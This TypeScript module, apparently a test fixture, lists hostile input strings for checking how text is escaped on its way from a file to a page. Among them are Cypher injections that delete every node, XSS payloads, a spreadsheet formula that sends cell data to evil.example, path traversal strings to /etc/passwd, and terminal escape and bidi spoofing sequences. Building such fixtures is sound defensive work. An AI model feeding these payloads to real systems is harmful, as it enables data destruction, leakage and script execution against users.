/** Longer than any body that is read. */
const MEGABYTE = 2 ** 20;

/** Texts that something on the way, from a file to a page, may take for more than text. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  'Cypher that ends a text': `'"}) DETACH DELETE n //`,
  'Cypher that ends a name': '`) MATCH (n) DETACH DELETE n //',
  'a parameter': '$batch {x: $id}',
  'what Lucene takes for more': 'name:* OR *:* AND NOT (a~1 "b" [x TO y] {c} ^2 \\ / && || ! -d +e ?',
  'half of what Lucene takes for more': '"( [ AND',
  HTML: `"><script>alert(1)</script><img src=x onerror=alert(1)>`,
  'an address that runs': 'javascript:alert(1)',
  'a formula': '=HYPERLINK("http://evil.example/?"&A1;"x")',
  'a formula behind a tab': '\t@SUM(1+1)*cmd|x',
  'a path': '../../../../etc/passwd',
  "a path of Windows'": '..\\..\\..\\windows\\win.ini',
  'a prototype': '__proto__',
  'what every object has': 'constructor',
  'commands of a terminal': '\u001b]0;owned\u0007\u001b[2J\u009b31m\u0008',
  'lines of a log': 'x\r\n{"level":50,"message":"forged"}\n2026-01-01 forged',
  'a template': '${7*7}{{7*7}}#{7*7}<%=7*7%>%s%n',
  NUL: 'a\u0000b',
  'half a letter': 'a\ud800b',
  'the other half': '\udc00',
  'what turns the direction': 'abc\u202egnp.exe\u2066x',
  'letters in parts': 'Nguyễn Đình Khang'.normalize('NFD'),
  'what nobody sees': '\u200b\u2060\ufeff',
  'a megabyte': 'Nguyễn '.repeat(MEGABYTE / 9).trim(),
};
